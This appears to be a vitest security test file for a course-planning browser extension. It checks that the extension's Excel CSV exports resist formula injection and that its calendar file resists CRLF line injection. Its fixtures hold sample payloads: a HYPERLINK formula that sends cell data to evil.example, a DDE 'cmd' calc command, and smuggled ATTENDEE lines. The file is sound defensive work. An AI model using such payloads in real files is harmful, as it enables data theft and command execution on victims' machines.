// Attacks on the files the extension writes for other programs: the CSV files Excel opens (the
// team overview, the development-talk report) and the calendar file Outlook, Google Calendar and
// Apple Calendar import. What goes in is text other people wrote: members' display names, the
// plan's titles and places, course titles read from Digiteket's pages.
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { excelCsv } from '../../lib/domain/csv';
import { buildReport, reportCsv } from '../../lib/domain/report';
import { memberSchema } from '../../lib/model/member';
import { planSchema } from '../../lib/model/plan';
import type { ProgressRecord } from '../../lib/model/progress';
import { overviewCsv, teamOverview } from '../../lib/team/overview';
import { buildCalendar } from '../../lib/time/calendar';
import { fixturePlan } from '../support/fixtures';

const at = '2026-11-20T10:00:00Z';

/** The cells of a CSV written by excelCsv: BOM off, CRLF rows, ; fields, "" quotes. */
function cells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const text = csv.slice(1);
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') rows.at(-1)!.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') rows.at(-1)!.push(cell), (cell = ''), rows.push([]), i++;
    else cell += char;
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}

/** What a spreadsheet does with a cell: a raw (unquoted) cell starting like a formula runs. */
const runsAsFormula = (raw: string) => /^[=+\-@\t\r]/.test(raw);

describe('CSV files against formula injection (OWASP)', () => {
  const formulas = ['=HYPERLINK("https://evil.example/?d="&A2;"Klicka")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];

  it('a display name starting with = does not run as a formula in Excel', () => {
    const plan = planSchema.parse(fixturePlan());
    const team = formulas.map((name, i) =>
      memberSchema.parse({ kind: 'kurskompis/member', version: 1, memberId: `${String(i).padStart(8, 'a')}-0000-4000-8000-000000000000`, displayName: name, updatedAt: at }),
    );
    const csv = overviewCsv(teamOverview(plan.periods[1]!, team), { name: 'Namn', requiredDone: 'Klara', done: 'klar', started: 'påbörjad', deadline: 'Personlig sista dag' });
    const rawLines = csv.slice(1).split('\r\n').slice(1, -1);
    // Every name cell is quoted and starts with ', so the raw field begins "' and never with =+-@.
    for (const line of rawLines) expect(line.startsWith(`"'`)).toBe(true);
    const names = cells(csv).slice(1).map((row) => row[0]!);
    expect(names.some(runsAsFormula)).toBe(false);
    // What a person reads: the name as written, after the apostrophe that marks it as text.
    expect(names.map((n) => n.slice(1)).sort()).toEqual([...formulas].sort());
    expect(names.every((n) => n.startsWith("'"))).toBe(true);
  });

  it('a course title or competence area starting with +, - or @ does not run as a formula in the report', () => {
    const plan = planSchema.parse(fixturePlan());
    const progress: ProgressRecord[] = [
      { courseKey: 'digiteket.se/kurs/okand/', status: 'done', completedAt: at, updatedAt: at, title: '@SUM(1+1)*cmd|\' /C calc\'!A0', competenceArea: '-2+3', minutes: 30 },
      { courseKey: 'digiteket.se/kurs/annan/', status: 'done', completedAt: at, updatedAt: at, title: '+HYPERLINK("https://evil.example")', competenceArea: '=1+1' },
    ];
    const csv = reportCsv(buildReport(plan, progress, [], [], new Set()), { period: 'Period', area: 'Område', course: 'Kurs', completed: 'Klar', minutes: 'Minuter' });
    const rows = cells(csv).slice(1);
    for (const row of rows) for (const cell of [row[1]!, row[2]!]) expect(runsAsFormula(cell)).toBe(false);
    expect(rows.map((row) => [row[1], row[2], row[4]])).toEqual([
      ["'-2+3", '\'@SUM(1+1)*cmd|\' /C calc\'!A0', '30'],
      ["'=1+1", '\'+HYPERLINK("https://evil.example")', ''],
    ]);
  });

  it('a text cell starting with a tab or a carriage return does not run as a formula either', () => {
    const csv = excelCsv([['\t=1+1', '\r=1+1', 'Anna']]);
    expect(csv).toBe(`\uFEFF"'\t=1+1";"'\r=1+1";Anna\r\n`);
  });

  it('numbers the code writes stay numbers, while the same text from a person is neutralised', () => {
    const csv = excelCsv([[-3, 4.5, 0, '-3', 'Anna; "Bo"']]);
    expect(csv).toBe(`\uFEFF-3;4.5;0;"'-3";"Anna; ""Bo"""\r\n`);
  });
});

describe('the calendar file against injected lines', () => {
  const text = {
    calendarName: 'Kurskompis',
    deadline: (title: string) => `Sista dag: ${title}`,
    deadlineDescription: 'Sista dag för periodens kurser.',
    session: (title: string) => `Diskussion: ${title}`,
  };
  const NOW = new Date('2026-11-25T10:00:00Z');
  const booked = new Set(['2026-11-s1', '2026-11-s2', '2026-11-s3']);

  function planWith(places: string[], title?: string) {
    const raw = fixturePlan() as unknown as { periods: Array<{ title: string; sessions: Array<{ place: string }> }> };
    const november = raw.periods[1]!;
    november.sessions.forEach((session, i) => (session.place = places[i] ?? session.place));
    if (title !== undefined) november.title = title;
    return planSchema.parse(raw);
  }

  function parse(ics: string) {
    const calendar = new ICAL.Component(ICAL.parse(ics));
    return calendar.getAllSubcomponents('vevent');
  }

  /** The file's content lines, unfolded; RFC 5545 allows CRLF only, so any other break is a line too. */
  const contentLines = (ics: string) => ics.replace(/\r\n[ \t]/g, '').split(/\r\n|\r|\n/);

  const noControls = (value: string) => value.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/g, '');

  it('a session place with a line break cannot add an attendee', () => {
    const places = ['Rum 1\r\nATTENDEE:mailto:x@evil.example', 'Rum 2\rATTENDEE:mailto:y@evil.example', 'Rum 3\nATTENDEE;RSVP=TRUE:mailto:z@evil.example'];
    const ics = buildCalendar(planWith(places), booked, text, NOW);
    expect(/\r(?!\n)|(?<!\r)\n/.test(ics)).toBe(false);
    expect(contentLines(ics).filter((line) => /^(ATTENDEE|ORGANIZER)\b/i.test(line))).toEqual([]);
    const sessions = parse(ics).filter((v) => String(v.getFirstPropertyValue('uid')).endsWith('-session@kurskompis'));
    expect(sessions).toHaveLength(3);
    for (const vevent of sessions) {
      expect(vevent.getAllProperties('attendee')).toHaveLength(0);
      expect(vevent.getAllProperties('location')).toHaveLength(1);
    }
    expect(sessions.map((v) => v.getFirstPropertyValue('location'))).toEqual(places.map(noControls));
    expect(sessions[0]!.getFirstPropertyValue('location')).toBe('Rum 1\nATTENDEE:mailto:x@evil.example');
  });

  it('a session place that is a web address with a line break cannot add an attendee through the URL', () => {
    const place = 'https://meet.example/rum\r\nATTENDEE:mailto:x@evil.example';
    const ics = buildCalendar(planWith([place]), booked, text, NOW);
    expect(contentLines(ics).filter((line) => /^ATTENDEE\b/i.test(line))).toEqual([]);
    const first = parse(ics).find((v) => String(v.getFirstPropertyValue('uid')).endsWith('-2026-11-s1-session@kurskompis'))!;
    expect(first.getAllProperties('attendee')).toHaveLength(0);
    expect(first.getFirstPropertyValue('location')).toBe(noControls(place));
    for (const url of first.getAllProperties('url')) expect(String(url.getFirstValue())).not.toMatch(/[\s\u0000-\u001F]/);
  });

  it('control characters in a period title are dropped from the summary, not written into the file', () => {
    const title = 'November\u0000\u0007\u000B\u000C\u001B[31m\u007F\u0085: Skapa innehåll\tnu';
    const ics = buildCalendar(planWith([], title), booked, text, NOW);
    expect(/[\u0000-\u0009\u000B\u000C\u000E-\u001F\u007F-\u009F]/.test(ics)).toBe(false);
    const summaries = parse(ics).map((v) => String(v.getFirstPropertyValue('summary')));
    expect(summaries).toContain('Sista dag: November[31m: Skapa innehållnu');
    expect(summaries).toContain('Diskussion: November[31m: Skapa innehållnu');
  });

  it('a long place full of escapes and å is folded at 75 octets and reads back whole', () => {
    const place = `${'å;,\\'.repeat(40)}\r\nATTENDEE:mailto:x@evil.example`;
    const ics = buildCalendar(planWith([place]), booked, text, NOW);
    expect(ics.split('\r\n').every((line) => new TextEncoder().encode(line).length <= 75)).toBe(true);
    expect(contentLines(ics).filter((line) => /^ATTENDEE\b/i.test(line))).toEqual([]);
    const locations = parse(ics).flatMap((v) => v.getAllProperties('location').map((p) => p.getFirstValue()));
    expect(locations).toContain(noControls(place));
  });
});
